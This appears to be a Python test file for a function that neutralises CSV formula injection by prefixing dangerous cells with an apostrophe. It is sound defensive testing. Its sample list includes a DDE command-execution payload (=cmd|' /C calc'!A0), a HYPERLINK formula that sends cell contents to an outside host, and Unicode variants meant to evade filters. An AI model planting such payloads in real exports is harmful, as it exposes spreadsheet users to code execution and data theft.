"""No cell of any CSV file starts with what a spreadsheet runs, whatever a member calls himself."""

from __future__ import annotations

import re
import unicodedata

import duckdb
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from pipelines.spreadsheets import plain_cell, plain_cell_sql

SIGNS = {*"=+-@\u2212"}
TEXTS = st.text(st.one_of(st.sampled_from("=+-@＝＋－＠−﹣⁻\t\r\n\0;\" '\u200b\ufeff\xa0\u3000a1"), st.characters()))

RUN = [
    "=1+1", "+1", "-1", "@SUM(A1)", "＝1+1", "＋1", "－1", "＠a", "−1", "﹣1", "⁻1", "\t=1", "\r=1", "\n=1", "\tname",
    "\rname", "\nname", "\0name", " =1", "   @a", "\u3000＝1", "\u200b=1", "\ufeff=1", "\xa0-1", '"=1"', "name;=1",
    "name; =1", "name\t=1", "name\n=1", 'name;"=1', "=HYPERLINK(\"http://example.org?\"&A1)", "=cmd|' /C calc'!A0",
]  # fmt: skip
PLAIN = ["", "name", "a=1", "a-b", "1+1", "m17", "me@example.org", "'=1", "a, -1", "程序员", "a; b", "C++", " name"]


def starts(cell: str) -> list[str]:
    """First sign of each piece that a spreadsheet may cut a cell into; blanks and quotes are passed over."""
    pieces = re.split("[;\t\r\n]", cell)
    return [re.sub(r'^["\s\x00-\x1f\u200b\ufeff]+', "", piece)[:1] for piece in pieces]


def by_duckdb(cells: list[str]) -> list[str]:
    with duckdb.connect() as con:
        con.execute("create table cells (n integer, cell varchar)")
        con.executemany("insert into cells values (?, ?)", list(enumerate(cells)))
        found = con.execute(f"select {plain_cell_sql('cell', 'VARCHAR')} from cells order by n").fetchall()
    return [cell for (cell,) in found]


@pytest.mark.parametrize("cell", RUN)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(cell: str) -> None:
    assert plain_cell(cell) != cell
    assert str(plain_cell(cell)).replace("'", "") == cell.replace("'", "")


@pytest.mark.parametrize("cell", [*PLAIN, -1, -1.5, None, True])
def test_everything_else_stays_as_it_is(cell: object) -> None:
    assert plain_cell(cell) == cell


@given(TEXTS)
@example("\n\n=1")
@example(";;=1")
@example("\t;\0=")
def test_no_cell_and_no_piece_of_one_starts_with_a_formula(cell: str) -> None:
    made = str(plain_cell(cell))
    assert made[:1] not in {"\t", "\r", "\n", "\0"}
    assert not SIGNS & {unicodedata.normalize("NFKC", start) for start in starts(made)}
    assert made.replace("'", "") == cell.replace("'", "")


def test_duckdb_makes_the_same_of_a_cell() -> None:
    assert by_duckdb(RUN + PLAIN) == [plain_cell(cell) for cell in RUN + PLAIN]


@pytest.mark.parametrize("type_", ["BIGINT", "DOUBLE", "DATE", "TIMESTAMP WITH TIME ZONE", "BOOLEAN"])
def test_numbers_and_times_are_no_text(type_: str) -> None:
    assert plain_cell_sql("change", type_) == '"change"'


def test_lists_of_texts_are_text() -> None:
    with duckdb.connect() as con:
        (cell,) = con.execute(f"select {plain_cell_sql('l', 'VARCHAR[]')} from (select ['a;=1'] as l)").fetchone()
    assert cell == "['a;'=1']"
